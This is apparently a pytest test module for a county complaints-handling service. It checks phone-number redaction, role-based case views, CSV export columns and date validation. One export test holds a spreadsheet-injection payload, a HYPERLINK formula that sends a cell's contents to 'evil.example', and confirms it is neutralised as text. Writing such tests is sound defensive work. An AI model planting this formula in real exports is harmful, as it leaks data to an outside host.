"""The complainant's identity in the forms it really takes, and values at the edge of input.

A respondent reads the facts with the contact's phone removed however it was typed; a person of
the unit complained about gets the redacted case even when also posted to the bureau (交叉挂职);
exports open in a spreadsheet as text; dates outside the county's range are 422 problems.
"""

import csv
import io
from datetime import datetime, timedelta

import httpx

from tests.builders import (
    BASE,
    CENTER,
    ENTERPRISE,
    RESPONDENT,
    AComplaint,
    People,
    Walk,
    register,
    step,
)
from yingshang.cases.pagination import Cursor
from yingshang.clock import SHANGHAI
from yingshang.testing.apps import ServiceUnderTest
from ys_complaints.directory import service as directory


def wire(sut: ServiceUnderTest) -> httpx.AsyncClient:
    """A client that gets the 500 a server would send instead of the raised exception."""
    transport = httpx.ASGITransport(app=sut.app, raise_app_exceptions=False)
    return httpx.AsyncClient(transport=transport, base_url="http://complaints")


async def test_the_contacts_phone_is_removed_however_it_is_written(
    complaints: ServiceUnderTest, people: People
) -> None:
    c, p = complaints.client, people
    facts = (
        "执法人员要求购买指定设备。请致电 135 1234 5678、135-1234-5678 或 (135)1234.5678 核实；"
        "订单号 2135123456789 与此无关。"
    )
    case = await register(c, p.clerk, AComplaint(facts=facts))
    case = await step(c, case, "accept", p.officer, {"note": "属受理范围"})
    case = await step(c, case, "assign", p.officer)
    seen = (await c.get(f"{BASE}/cases/{case['id']}", headers=p.head())).json()
    assert seen["identity"] == "redacted"
    assert "1234" not in seen["facts"].replace("2135123456789", ""), seen["facts"]
    assert seen["facts"].count("[已隐去]") == 3
    assert "2135123456789" in seen["facts"]  # a longer number that merely contains it stays
    center = (await c.get(f"{BASE}/cases/{case['id']}", headers=p.officer)).json()
    assert center["facts"] == facts


async def test_a_respondent_also_posted_to_the_bureau_gets_the_redacted_case(
    complaints: ServiceUnderTest, people: People, walk: Walk
) -> None:
    case = await walk.assigned()
    both = people.issuer.headers((RESPONDENT, "head"), ("BUREAU", "staff"), staff_no="X0001")
    response = await complaints.client.get(f"{BASE}/cases/{case['id']}", headers=both)
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["identity"], body["enterprise"]) == ("redacted", None)
    assert ENTERPRISE["uscc"][:8] not in response.text
    bureau_only = await complaints.client.get(f"{BASE}/cases/{case['id']}", headers=people.bureau)
    assert bureau_only.json()["identity"] == "masked"  # the control: oversight alone is masked


async def test_an_export_opens_in_a_spreadsheet_as_text(
    complaints: ServiceUnderTest, people: People
) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    await register(complaints.client, people.clerk, AComplaint(title=title))
    export = await complaints.client.get(f"{BASE}/cases/export", headers=people.officer)
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    assert [r["标题"] for r in rows] == ["'" + title]
    # the console's words for the columns, and its words for a flag
    headers = "案件编号 状态 类别 被投诉单位 责任单位 标题 企业名称 实名投诉 登记时间 时限"
    codes = ["被投诉单位代码", "责任单位代码"]
    assert list(rows[0]) == [*headers.split(), "已超期", "已督办", *codes]
    assert (rows[0]["实名投诉"], rows[0]["已超期"]) == ("是", "否")
    # times as the county reads them: Asia/Shanghai, to the minute; the time limit, a
    # working-day one, ends at 24:00 of its last day as the console and the SMS say (not
    # 00:00 of the next day, read as a day more)
    listed = (await complaints.client.get(f"{BASE}/cases", headers=people.officer)).json()
    received = datetime.fromisoformat(listed["items"][0]["received_at"])
    assert rows[0]["登记时间"] == f"{received.astimezone(SHANGHAI):%Y-%m-%d %H:%M}"
    due = datetime.fromisoformat(listed["items"][0]["due_at"]).astimezone(SHANGHAI)
    assert (due.hour, due.minute) == (0, 0)
    assert rows[0]["时限"] == f"{due - timedelta(days=1):%Y-%m-%d} 24:00"


async def test_an_export_names_the_units_as_the_console_does(
    complaints: ServiceUnderTest, people: People, walk: Walk
) -> None:
    """A clerk reads the units by their names in the directory (a name the gateway changed
    included), as the console lists them; their codes stay in columns of their own."""
    case = await walk.assigned()
    async with complaints.app.state.db.write() as session:
        await directory.DEPARTMENTS.upsert(session, RESPONDENT, "县市场监督管理局", "department")
    export = await complaints.client.get(f"{BASE}/cases/export", headers=people.officer)
    assert export.status_code == 200, export.text
    [row] = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    assert row["案件编号"] == case["number"]
    assert (row["被投诉单位"], row["被投诉单位代码"]) == ("县市场监督管理局", RESPONDENT)
    assert (row["责任单位"], row["责任单位代码"]) == ("县市场监督管理局", case["department"])
    waiting = await register(complaints.client, people.clerk, AComplaint(respondent=None))
    export = await complaints.client.get(f"{BASE}/cases/export", headers=people.officer)
    rows = {r["案件编号"]: r for r in csv.DictReader(io.StringIO(export.text.lstrip("\ufeff")))}
    unnamed = rows[waiting["number"]]  # at the center, no unit complained about named
    assert (unnamed["被投诉单位"], unnamed["被投诉单位代码"]) == ("", "")
    center_name = "非公有制经济发展侵权投诉中心"
    assert (unnamed["责任单位"], unnamed["责任单位代码"]) == (center_name, CENTER)


async def test_dates_outside_the_countys_range_are_422_problems(
    complaints: ServiceUnderTest, people: People
) -> None:
    cursor = Cursor(
        "received_at", "desc", "0001-01-01T00:00:00+08:00", "01a21e0d-6276-710c-945f-c7bd48b02529"
    ).encode()
    asks = [
        (f"{BASE}/statistics", {"from": "2026-01-01", "to": "9999-12-31"}, people.bureau),
        (f"{BASE}/cases", {"received_from": "0001-01-01T00:00:00+08:00"}, people.officer),
        (f"{BASE}/cases", {"cursor": cursor}, people.officer),
    ]
    async with wire(complaints) as client:
        for url, params, headers in asks:
            response = await client.get(url, params=params, headers=headers)
            assert response.status_code == 422, (params, response.text)
            assert response.headers["content-type"] == "application/problem+json"
